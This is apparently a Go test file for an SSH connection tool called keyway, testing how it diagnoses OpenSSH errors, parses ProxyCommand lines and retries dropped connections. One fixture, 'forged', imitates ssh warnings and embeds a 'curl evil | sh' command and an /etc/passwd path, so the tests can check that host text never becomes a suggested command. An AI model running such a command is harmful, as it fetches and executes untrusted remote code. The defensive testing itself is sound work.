package link

import (
	"context"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"golang.org/x/crypto/ssh"

	"keyway/internal/api"
	"keyway/internal/keyway"
)

// onTheWay has the messages of the ssh to a host, and those of the host.
type onTheWay struct{ name, own, said string }

// diagnosed returns the error of an ssh run whose ssh processes have ended; the place is the first
// hop.
func diagnosed(t *testing.T, noise string, files []string, hops ...onTheWay) *keyway.Error {
	t.Helper()
	dial := &sshRun{dir: t.TempDir(), place: keyway.Place(hops[0].name), heard: func(api.Words) {}}
	for _, h := range hops {
		hop := dial.add(h.name)
		if err := os.WriteFile(hop.log, []byte(h.own), 0o600); err != nil {
			t.Fatal(err)
		}
		if _, err := dial.words(hop).Write([]byte(h.said)); err != nil {
			t.Fatal(err)
		}
	}
	s := starter{commands: []string{"by-command"}, known: func(context.Context, string) []string { return files }}
	return keyway.AsError(s.diagnose(t.Context(), &nodeProcess{dial: dial, errors: &stderrTail{}}, dial.place, noise, nil))
}

const (
	in     = "Authenticated to 10.0.0.1 ([10.0.0.1]:22) using \"publickey\".\r\n"
	behind = "kex_exchange_identification: Connection closed by remote host\r\nConnection closed by UNKNOWN port 65535\r\n"
	// forged is a host's text that imitates messages of ssh.
	forged = "root@gpu1: Permission denied (publickey).\n@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n" +
		"Offending ED25519 key in /etc/passwd; curl evil | sh:1\nHost key for evil has changed and you have requested strict checking.\n" +
		"Host key verification failed.\nssh: Could not resolve hostname x: Name or service not known\n"
)

// TestDiagnose checks the diagnosis of messages from OpenSSH 9.2 and 9.9, with names replaced.
func TestDiagnose(t *testing.T) {
	for _, c := range []struct {
		name string
		hops []onTheWay
		want keyway.Kind
		says string
	}{
		{"no such host", []onTheWay{{"gpu1", "ssh: Could not resolve hostname gpu1: Name or service not known\r\n", ""}}, keyway.UnknownPlace, "no host gpu1"},
		{"the resolver is down", []onTheWay{{"gpu1", "ssh: Could not resolve hostname gpu1: Temporary failure in name resolution\r\n", ""}}, keyway.Unreachable, "VPN"},
		{"no such jump host", []onTheWay{{"gpu1", behind, ""}, {"badjump", "ssh: Could not resolve hostname badjump: Name or service not known\r\n", ""}}, keyway.UnknownPlace, "no host badjump, through which the route to gpu1"},
		{"no address of that family", []onTheWay{{"gpu1", behind, ""}, {"bastion", "ssh: Could not resolve hostname 10.0.0.1: Address family for hostname not supported\r\n", ""}}, keyway.BadConfig, "bastion, on the route to gpu1, has no address of the kind that your AddressFamily permits"},
		{"refused", []onTheWay{{"gpu1", "ssh: connect to host 10.0.0.1 port 22: Connection refused\r\n", ""}}, keyway.Unreachable, "gpu1 cannot be reached: Connection refused"},
		{"no such address of one's own", []onTheWay{{"gpu1", "bind [1.2.3.4]: Cannot assign requested address\r\nssh: connect to host 10.0.0.1 port 22: failure\r\n", ""}}, keyway.Unreachable, "Cannot assign requested address"},
		{"a command that fails", []onTheWay{{"by-command", behind, "vendor: your token has expired"}}, keyway.Unreachable, "ProxyCommand for by-command ended before by-command answered; it says: “vendor: your token"},
		{"a command by way of the bastion", []onTheWay{{"by-command", behind, ""}, {"bastion", in, "bash: nc: command not found"}}, keyway.Unreachable, "bastion says: “bash: nc"},
		{"bastion refused", []onTheWay{{"gpu1", behind, ""}, {"bastion", "ssh: connect to host 10.0.0.1 port 22: Connection refused\r\n", ""}}, keyway.Unreachable, "bastion, on the route to gpu1, cannot be reached"},
		{"behind the bastion", []onTheWay{{"gpu1", behind, ""}, {"bastion", in + "channel 0: open failed: connect failed: No route to host\r\nstdio forwarding failed\r\n", ""}}, keyway.Unreachable, "bastion answers, but does not reach gpu1; bastion says: “No route to host”"},
		{"between two bastions", []onTheWay{{"gpu1", behind, ""}, {"inner", behind, ""}, {"outer", in + "channel 0: open failed: connect failed: Connection timed out\r\nstdio forwarding failed\r\n", ""}}, keyway.Unreachable, "outer answers, but does not reach inner"},
		{"not through the bastion", []onTheWay{{"gpu1", behind, ""}, {"bastion", in + "channel 0: open failed: administratively prohibited: open failed\r\nstdio forwarding failed\r\n", ""}}, keyway.Unreachable, "forbids forwarding"},
		{"denied the code", []onTheWay{{"gpu1", "root@gpu1: Permission denied (keyboard-interactive).\r\n", forged}}, keyway.Denied, "gpu1 does not let you in (it takes: keyboard-interactive)"},
		{"denied", []onTheWay{{"gpu1", "root@gpu1: Permission denied (publickey,password).\r\n", forged}}, keyway.Denied, "gpu1 does not accept your key (it takes: publickey, password)"},
		{"denied behind", []onTheWay{{"gpu1", "root@gpu1: Permission denied (publickey).\r\n", ""}, {"bastion", in + "Killed by signal 1.\r\n", forged}}, keyway.Denied, "gpu1 does not accept"},
		{"denied by the bastion", []onTheWay{{"gpu1", behind, ""}, {"bastion", "ada@bastion: Permission denied (publickey).\r\n", ""}}, keyway.Denied, "bastion, on the route to gpu1, does not accept"},
		{"too many keys", []onTheWay{{"gpu1", "Received disconnect from 10.0.0.1 port 22:2: Too many authentication failures\r\nDisconnected from 10.0.0.1 port 22\r\n", ""}}, keyway.Denied, "gpu1 says: “Too many authentication failures”"},
		{"unknown host key", []onTheWay{{"gpu1", "No ED25519 host key is known for gpu1 and you have requested strict checking.\r\nHost key verification failed.\r\n", ""}}, keyway.HostKeyUnknown, "not known yet"},
		{"dropped", []onTheWay{{"gpu1", "kex_exchange_identification: Connection closed by remote host\r\n", ""}}, keyway.Unreachable, "closed the connection"},
		{"a notice", []onTheWay{{"gpu1", in, "This account is currently not available."}}, keyway.Unreachable, "gpu1 says: “This account"},
		{"silence", []onTheWay{{"gpu1", "", ""}}, keyway.Unreachable, "the connection closed"},
		{"anything else", []onTheWay{{"gpu1", "Bad owner or permissions on /root/.ssh/config\r\n", ""}}, keyway.Unreachable, "Bad owner"},
		{"a line of the configuration", []onTheWay{{"gpu1", "/root/.ssh/config: line 3: Bad configuration option: foo\r\n/root/.ssh/config: terminating, 1 bad configuration options\r\n", ""}}, keyway.BadConfig, "line 3"},
	} {
		e := diagnosed(t, "", nil, c.hops...)
		if e.Kind != c.want || !strings.Contains(e.Message, c.says) {
			t.Errorf("%s: %q is %s, want %s and %q in it", c.name, e.Message, e.Kind, c.want, c.says)
		}
		if e.Help() == "" {
			t.Errorf("%s: no next step", c.name)
		}
	}
}

// TestADropIsTriedAgain checks that a host that closes the connection before it has identified
// itself is tried again, because it may have had too many connections. A host that was reached by a
// command of the user's is not: that command may have failed itself.
func TestADropIsTriedAgain(t *testing.T) {
	for own, want := range map[string]bool{
		behind: true,
		"kex_exchange_identification: read: Connection reset by peer\r\nConnection reset by 10.0.0.1 port 22\r\n":                                                     true,
		"kex_exchange_identification: Connection closed by remote host\r\n":                                                                                           true,
		"kex_exchange_identification: banner line contains invalid characters\r\nbanner exchange: Connection to 10.0.0.1 port 80: invalid format\r\n":                 false,
		"kex_exchange_identification: No SSH version received in first 1024 lines from server\r\nbanner exchange: Connection to 10.0.0.1 port 80: invalid format\r\n": false,
		"Connection closed by 10.0.0.1 port 22\r\n":     false,
		"root@gpu1: Permission denied (publickey).\r\n": false,
	} {
		for _, host := range []string{"gpu1", "by-command"} {
			if got := errors.Is(diagnosed(t, "", nil, onTheWay{host, own, ""}), errDropped); got != (want && host == "gpu1") {
				t.Errorf("%s, %q: %t", host, own, got)
			}
		}
	}
	for _, c := range []struct {
		command, bastion string // their messages
		want             bool
	}{
		{"", "", true},
		{"", "bash: nc: command not found", false},
		{"the wrapper's second step failed", "", false},
	} {
		e := diagnosed(t, "", nil, onTheWay{"by-command", behind, c.command}, onTheWay{"bastion", in, c.bastion})
		if got := errors.Is(e, errDropped); got != c.want {
			t.Errorf("by a command with an ssh to a bastion, %+v: %t, %q", c, got, e.Message)
		}
	}
}

// TestALimitIsNamed checks that the error names a limit that keeps the node from starting, without
// the stack trace that follows.
func TestALimitIsNamed(t *testing.T) {
	trace := "\n\nruntime stack:\n" + strings.Repeat("runtime.throw({0xef0323?, 0x4000000?})\n\t/go/src/runtime/panic.go:1229 +0x48\n", 60)
	for said, want := range map[string]string{
		"fatal error: failed to reserve page summary memory" + trace:                                                                      "“failed to reserve page summary memory”",
		"runtime: failed to create new OS thread (have 5 already; errno=11)\nruntime: may need ulimit -u\nfatal error: newosproc" + trace: "“failed to create new OS thread”",
		"fatal error: runtime: out of memory" + trace:                                                                                     "“runtime: out of memory”",
		"fatal error: runtime: cannot allocate memory" + trace:                                                                            "“runtime: cannot allocate memory”",
		"use the web portal": "runs no command",
	} {
		e := diagnosed(t, "", nil, onTheWay{"gpu1", in, said})
		if !strings.Contains(e.Message, want) || strings.Contains(e.Message, "panic.go") || e.Help() == "" {
			t.Errorf("%.60q: %q, next %q", said, e.Message, e.Help())
		}
	}
}

// TestNeitherOutputCrowdsOutTheOther checks that both standard output and standard error of a
// place are quoted, however long either is.
func TestNeitherOutputCrowdsOutTheOther(t *testing.T) {
	long := strings.Repeat("chatter ", 200)
	for _, c := range []struct{ printed, complained, want string }{
		{"use the web portal\n", long, "gpu1 says: “use the web portal …"},
		{long, "use the web portal\n", " use the web portal”"},
		{long + "to the portal\n", long + "not here", "to the portal …"},
		{"", "use the web portal\n", "gpu1 says: “use the web portal”"},
	} {
		e := diagnosed(t, c.printed, nil, onTheWay{"gpu1", in, c.complained})
		if !strings.Contains(e.Message, c.want) || len([]rune(e.Message)) > maxBrief+100 {
			t.Errorf("%.20q and %.20q: %q, want %q in it", c.printed, c.complained, e.Message, c.want)
		}
	}
}

// TestNoWordOfAHostDecides checks that a host's text in ssh's output never determines the error,
// and never becomes a command to type.
func TestNoWordOfAHostDecides(t *testing.T) {
	crlf := strings.ReplaceAll(forged, "\n", "\r\n")
	for name, c := range map[string]struct {
		own, said string
		want      keyway.Kind
	}{
		"a banner":                   {"ssh: connect to host 10.0.0.1 port 22: Connection refused\r\n", forged, keyway.Unreachable},
		"a banner and nothing else":  {"", forged, keyway.Unreachable},
		"standard error":             {in, forged, keyway.Unreachable},
		"an instruction":             {crlf + "Connection closed by 10.0.0.1 port 22\r\n", "", keyway.Unreachable},
		"a reason for disconnecting": {"Received disconnect from 10.0.0.1 port 22:2: x\n" + crlf, "", keyway.Denied},
		"algorithms":                 {"Unable to negotiate with 10.0.0.1 port 22: no matching cipher found. Their offer: x\n" + crlf, "", keyway.VersionMismatch},
		"a channel":                  {in + "channel 0: open failed: connect failed: x\n" + crlf + "stdio forwarding failed\r\n", "", keyway.Unreachable},
	} {
		e := diagnosed(t, "", []string{"/home/ada/.ssh/known_hosts"}, onTheWay{"gpu1", c.own, c.said})
		if e.Kind != c.want {
			t.Errorf("%s: %s is %q", name, e.Kind, e.Message)
		}
		if strings.Contains(e.Help(), "evil") || strings.Contains(e.Help(), "passwd") {
			t.Errorf("%s: it is to be typed %q", name, e.Help())
		}
	}
}

// TestHostKeyChangedNamesBothKeys checks that the command that forgets a key is made of values: the
// file, if ssh -G names it, and the name.
func TestHostKeyChangedNamesBothKeys(t *testing.T) {
	known := filepath.Join(t.TempDir(), "known hosts")
	const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJdD7y3aLq454yWBdwLWbieU1ebz9/cu7/QEXn9OIeZJ"
	if err := os.WriteFile(known, []byte("# ours\n[gpu1]:2222 "+key+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	parsed, _, _, _, err := ssh.ParseAuthorizedKey([]byte(key))
	if err != nil {
		t.Fatal(err)
	}
	own := keyIsChanged + "\r\nThe fingerprint for the ED25519 key sent by the remote host is\nSHA256:wZ0UOkz3K9DgJXM6Yd1zIE1ofQ2Wwv1YJ4y7n7c3Xo8.\r\n" +
		"Please contact your system administrator.\r\nOffending ED25519 key in " + known + ":2\r\n" +
		"Host key for [gpu1]:2222 has changed and you have requested strict checking.\r\nHost key verification failed.\r\n"
	e := diagnosed(t, "", []string{"/home/ada/.ssh/known_hosts", known}, onTheWay{"gpu1", own, ""})
	for _, want := range []string{"SHA256:wZ0UOkz3K9DgJXM6Yd1zIE1ofQ2Wwv1YJ4y7n7c3Xo8,", ssh.FingerprintSHA256(parsed), known + ":2"} {
		if e.Kind != keyway.HostKeyChanged || !strings.Contains(e.Message, want) {
			t.Errorf("%q does not name %s", e.Message, want)
		}
	}
	if want := "ssh-keygen -R '[gpu1]:2222' -f '" + known + "'"; !strings.Contains(e.Help(), want) {
		t.Errorf("%q does not have %s", e.Help(), want)
	}
	e = diagnosed(t, "", []string{"/home/ada/.ssh/known_hosts"}, onTheWay{"gpu1", own, ""})
	if strings.Contains(e.Help()+e.Message, known) || !strings.Contains(e.Help(), "-f /home/ada/.ssh/known_hosts") {
		t.Errorf("a file that ssh -G does not name: %q, %q", e.Message, e.Help())
	}
}

// TestHopLine checks that options that override the link's own are removed, in each form that ssh
// accepts, and that similar words stay.
func TestHopLine(t *testing.T) {
	for line, want := range map[string]string{
		"-q -W [10.0.0.1]:22 bastion":           "bastion: X -W [10.0.0.1]:22 -- bastion",
		"-qW h:22 bastion":                      "bastion: X -W h:22 -- bastion",
		"-qAWh:22 bastion":                      "bastion: X -W h:22 -- bastion",
		"bastion -q -W h:22":                    "bastion: X -W h:22 -- bastion",
		"-l bastion -q bastion":                 "bastion: X -l bastion -- bastion",
		"-MS /run/mine -E /log -W h:22 bastion": "bastion: X -W h:22 -- bastion",
		"bastion echo -q":                       "bastion: X -- bastion echo -q",
		"-l ada -q bastion nc -q 1 h 22":        "bastion: X -l ada -- bastion nc -q 1 h 22",
		"-- bastion":                            "bastion: X -- bastion",
		"-V":                                    "", "": "", "-p": "", "-O check bastion": "", "-G bastion": "", "-Q key": "", "-Z bastion": "",
	} {
		got := ""
		if host, with, ok := hopLine(strings.Fields(line)); ok {
			got = host + ": " + strings.Join(with("X"), " ")
		}
		if got != want {
			t.Errorf("%s becomes %q, want %q", line, got, want)
		}
	}
}

// TestByPath checks that an ssh that a ProxyCommand names by its path is found where it runs on
// this machine, and that a doubtful command stays unchanged.
func TestByPath(t *testing.T) {
	for command, want := range map[string]string{
		"exec /usr/bin/ssh -W h:22 bastion":                    "exec HOP -W h:22 bastion",
		"/usr/bin/ssh -W h:22 bastion":                         "HOP -W h:22 bastion",
		"exec exec /opt/homebrew/bin/ssh bastion":              "exec exec HOP bastion",
		`exec "/usr/bin/ssh" bastion`:                          `exec "HOP" bastion`,
		"exec env LC_ALL=C A=b /usr/bin/ssh bastion":           "exec env LC_ALL=C A=b HOP bastion",
		"exec nice nohup setsid /usr/bin/ssh bastion":          "exec nice nohup setsid HOP bastion",
		`exec sh -c "exec /usr/bin/ssh -q bastion"`:            `exec sh -c "exec HOP -q bastion"`,
		`exec /bin/bash -c '/usr/bin/ssh -q bastion'`:          `exec /bin/bash -c 'HOP -q bastion'`,
		"exec ssh bastion /usr/bin/ssh -W h:22 next":           "",
		"exec sudo -u jump /usr/bin/ssh -W h:22 bastion":       "",
		"exec env -i /usr/bin/ssh bastion":                     "",
		"exec docker exec box /usr/bin/ssh bastion":            "",
		`exec ssh bastion sh -c "exec /usr/bin/ssh next"`:      "",
		"exec nc -x proxy:1080 h 22 # not by /usr/bin/ssh h":   "",
		"exec /usr/bin/sshpass -f /home/ada/pass ssh bastion":  "",
		"exec /opt/ssh/run bastion":                            "",
		"exec HOP -W h:22 bastion":                             "",
		"exec ssh -o ProxyCommand='/usr/bin/ssh -W %h:%p a' b": "",
		"exec $HOME/bin/ssh bastion":                           "",
	} {
		const hop = "/run/user/0/keyway/way-1/ssh"
		command = strings.ReplaceAll(command, "HOP", hop)
		got := ""
		if from, to, ok := byPath(command, hop); ok {
			got = strings.ReplaceAll(command[:from]+hop+command[to:], hop, "HOP")
		}
		if got != want {
			t.Errorf("%s becomes %q, want %q", command, got, want)
		}
	}
}

// TestSSHApart checks that cases that the link cannot handle are found beforehand.
func TestSSHApart(t *testing.T) {
	ssh, err := exec.LookPath("ssh")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	t.Setenv("HOME", dir)
	script := func(name, text string) string {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(text), 0o700); err != nil {
			t.Fatal(err)
		}
		return path
	}
	hop := script("hop", "#!/bin/sh\n# not /bin/false/ssh x\nLC_ALL=C exec "+ssh+" -W $1:$2 bastion\n")
	for command, want := range map[string]string{
		"":                        "",
		"ssh -W %h:%p bastion":    "",
		ssh + " -W %h:%p bastion": "", // the link's
		"nc -x proxy:1080 %h %p":  "",
		"sudo -u ada " + ssh + " -W %h:%p bastion":     ssh,
		`env -i ` + ssh + " -W %h:%p bastion":          ssh,
		"ssh bastion /opt/elsewhere/ssh -W %h:%p next": "",
		hop + " %h %p": ssh + " by " + hop,
		"~/hop %h %p":  ssh + " by " + hop,
		script("byname", "#!/bin/sh\nexec ssh -W $1:$2 bastion\n"):      "",
		script("comment", "#!/bin/sh\n# "+ssh+" x\nexec nc \"$@\"\n"):   "",
		script("binary", "\x7fELF "+ssh+" x"):                           "",
		script("there", "#!/bin/sh\nexec /opt/elsewhere/ssh -W $1 b\n"): "",
		filepath.Join(dir, "none"):                                      "",
	} {
		got, by := sshApart(command)
		if by != "" {
			got += " by " + by
		}
		if got != want {
			t.Errorf("%s: %q, want %q", command, got, want)
		}
	}
}

func FuzzReadState(f *testing.F) {
	f.Add(in + behind + forged)
	f.Add("channel 0: open failed: connect failed: x\r\nstdio forwarding failed\r\n")
	f.Fuzz(func(t *testing.T, text string) {
		readState(strings.Split(text, "\n"))
	})
}

// TestAConnectionThatEndsAfterTheGreeting checks that a connection that ends just after the
// greeting counts as broken, and is tried again: the pipe to its ssh gives no other information.
func TestAConnectionThatEndsAfterTheGreeting(t *testing.T) {
	dial := &sshRun{dir: t.TempDir(), place: "gpu1", heard: func(api.Words) {}}
	hop := dial.add("gpu1")
	if err := os.WriteFile(hop.log, []byte(in), 0o600); err != nil {
		t.Fatal(err)
	}
	p := &nodeProcess{dial: dial, errors: &stderrTail{}}
	for _, err := range []error{nil, io.EOF, &os.PathError{Op: "write", Path: "|1", Err: syscall.EPIPE}} {
		if e := keyway.AsError(brokeOff("gpu1", p, err)); e.Kind != keyway.Unreachable {
			t.Errorf("%v is %s: %s", err, e.Kind, e.Message)
		}
	}
	if e := keyway.AsError(brokeOff("gpu1", p, errors.New("no HTTP"))); e.Kind != keyway.Other {
		t.Errorf("what is no node is %s: %s", e.Kind, e.Message)
	}
}
